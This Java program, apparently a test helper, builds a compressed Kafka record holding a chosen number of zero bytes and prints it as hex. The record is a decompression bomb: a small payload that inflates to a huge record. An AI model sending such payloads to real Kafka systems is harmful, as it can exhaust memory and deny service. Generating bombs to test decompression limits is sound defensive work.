import java.io.OutputStream;
import java.util.HexFormat;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.record.CompressionType;
import org.apache.kafka.common.utils.ByteBufferOutputStream;
import org.apache.kafka.common.utils.ByteUtils;

/** Prints one compressed record of zeros in hexadecimal digits: {@code Bomb CODEC BYTES}. */
public final class Bomb {
    /** Bytes of a record besides the value and its length: attributes, two deltas, a key of one byte, no headers. */
    private static final int FIELDS = 6;

    private Bomb() {}

    public static void main(String[] arguments) throws Exception {
        int bytes = Integer.parseInt(arguments[1]);
        ByteBufferOutputStream compressed = new ByteBufferOutputStream(1 << 20);
        CompressionType codec = CompressionType.forName(arguments[0]);
        try (OutputStream output = Compression.of(codec).build().wrapForOutput(compressed, (byte) 2);
                java.io.DataOutputStream record = new java.io.DataOutputStream(output)) {
            ByteUtils.writeVarint(FIELDS + ByteUtils.sizeOfVarint(bytes) + bytes, record);
            record.write(new byte[] {0, 0, 0, 2, 'k'});
            ByteUtils.writeVarint(bytes, record);
            byte[] zeros = new byte[1 << 20];
            for (int written = 0; written < bytes; written += zeros.length) {
                record.write(zeros, 0, Math.min(zeros.length, bytes - written));
            }
            record.write(0);
        }
        byte[] whole = new byte[compressed.position()];
        compressed.buffer().duplicate().flip().get(whole);
        System.out.println(HexFormat.of().formatHex(whole));
    }
}
